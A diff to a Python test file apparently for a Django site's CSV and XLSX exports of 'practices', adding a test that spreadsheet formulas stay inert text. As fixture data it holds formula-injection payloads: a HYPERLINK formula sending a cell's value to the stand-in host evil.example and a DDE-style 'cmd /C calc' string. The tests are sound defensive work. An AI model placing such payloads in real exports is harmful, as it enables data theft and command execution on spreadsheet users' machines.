@@ -53,10 +53,14 @@ def published(**kwargs):
 
 
 def csv_rows(response):
+    """The rows of a CSV: the site's own practices CSV is for Dutch
+    spreadsheets (a byte order mark, semicolons), the admin's use commas."""
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     content = b"".join(response) if response.streaming else response.content
-    return list(csv.reader(io.StringIO(content.decode())))
+    text = content.decode("utf-8-sig")
+    delimiter = ";" if content.startswith(b"\xef\xbb\xbf") else ","
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
 
 
 def spreadsheet_would_evaluate(cell):
@@ -147,11 +151,27 @@ def test_practices_csv_writes_titles_and_summaries_as_text(client):
         rows[0],
         [dict(zip(rows[0], row, strict=True)) for row in rows[1:]],
     )
-    record = next(r for r in records if r["id"] == str(practice.pk))
-    assert record["title"] == "'" + title
-    assert record["summary"] == "'" + summary
-    assert "title" in header
+    record = next(r for r in records if r["ID"] == str(practice.pk))
+    assert record["Titel"] == "'" + title
+    assert record["Samenvatting"] == "'" + summary
+    assert "Titel" in header
     assert_no_formula_cells(rows)
+
+
+def test_practices_xlsx_writes_titles_and_summaries_as_text(client):
+    """The XLSX needs no quote: its text cells are never formulas."""
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"Formulewerkboek")'
+    summary = "@SUM(1+1)*cmd|' /C calc'!A0 Formulewerkboek"
+    practice = published(title=title, summary=summary)
+
+    response = client.get(reverse("api_practices_xlsx"), {"q": "Formulewerkboek"})
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[-1].value == practice.pk)
+    assert (row[0].value, row[0].data_type) == (title, "s")
+    assert (row[1].value, row[1].data_type) == (summary, "s")
 
 
 def test_stale_practices_csv_writes_a_display_name_as_text(client):
